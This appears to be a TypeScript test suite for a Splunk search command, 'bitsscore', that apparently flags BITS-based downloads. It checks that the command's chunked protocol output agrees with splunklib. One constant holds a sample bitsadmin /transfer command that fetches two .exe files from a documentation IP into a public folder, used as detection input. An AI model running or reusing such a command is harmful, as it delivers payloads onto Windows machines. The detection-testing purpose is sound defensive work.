/** Each reply, of whatever kind, as splunklib's reader understands it. */
import fc from 'fast-check';
import { bitsscore, readSettings, serveBytes, tunedScorer } from '../../src/searchcommand/index.js';
import type { Command } from '../../src/searchcommand/index.js';
import { chunk, execute, getinfo, replies, twoWords } from './conversation.js';
import { readBySplunklib, testWithSplunklib, withLists } from './splunklib.js';

const real = bitsscore(tunedScorer(readSettings([])));
const words = bitsscore(twoWords);

function agree(input: Uint8Array, command: Command): readonly Record<string, string | string[]>[][] {
  const { output } = serveBytes(input, command);
  const own = replies(output).map(({ metadata, body }) => [metadata, withLists(body)] as const);
  expect(readBySplunklib(output)).toEqual(own);
  return own.map(([, rows]) => rows);
}

const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const attack = 'bitsadmin /transfer "a b" http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe http://203.0.113.7/b.exe C:\\Users\\Public\\b.exe';

testWithSplunklib('what getinfo answers: fields, warnings, a refusal', () => {
  const warned = bitsscore(tunedScorer(readSettings([{ name: 'local/bitsscore.conf', text: '[bitsscore]\nthreshold = many\n' }])));
  expect(agree(getinfo(), real)).toEqual([[]]);
  agree(getinfo(), warned);
  agree(getinfo('treshold=5'), real);
});

testWithSplunklib('rows with and without an index, several values, several chunks, no rows, CRLF', () => {
  const rows = `process,_chunked_idx\n${quoted(attack)},7\nnotepad,8\n`;
  const [, indexed, passed, none] = agree(Buffer.concat([getinfo('explain=true'), execute(rows, false), execute(`process,"é, ""x"""\r\n${quoted(attack)},"line\none"\r\n`, false), execute('', false), execute('process\n')]), real);
  expect(indexed?.map((row) => [row['_chunked_idx'], row['bits_url']])).toEqual([['7', ['http://203.0.113.7/a.exe', 'http://203.0.113.7/b.exe']], ['8', '']]);
  expect(passed?.[0]).toMatchObject({ process: attack, 'é, "x"': 'line\none' });
  expect(none).toEqual([]);
});

testWithSplunklib('one clear error for what is no conversation', () => {
  for (const input of [Buffer.from('GET / HTTP/1.1\n\n'), execute('a\n1\n'), chunk({ action: 'stop' }), Buffer.from(`chunked 1.0,${'9'.repeat(40)},0\n`)]) agree(input, real);
});

testWithSplunklib('10,000 columns, and values full of what the encoding is made of', () => {
  const names = Array.from({ length: 10_000 }, (_, index) => `f${index}`);
  agree(Buffer.concat([getinfo(), execute(`${names.join(',')},process\n${names.map(() => 'x').join(',')},${quoted(attack)}\n`)]), real);
  const cells = fc.sample(fc.string({ unit: fc.constantFrom('"', ',', '\n', '\r', ';', '$', 'é', 'x', ' ', 'bitsadmin', '/transfer') }), { numRuns: 300, seed: 7 });
  const answers = agree(Buffer.concat([getinfo(), execute(`process,b\n${cells.map((cell) => `${quoted(cell)},${quoted(cell)}\n`).join('')}`)]), words);
  expect(answers[1]?.map((row) => row['process'])).toEqual(cells);
});
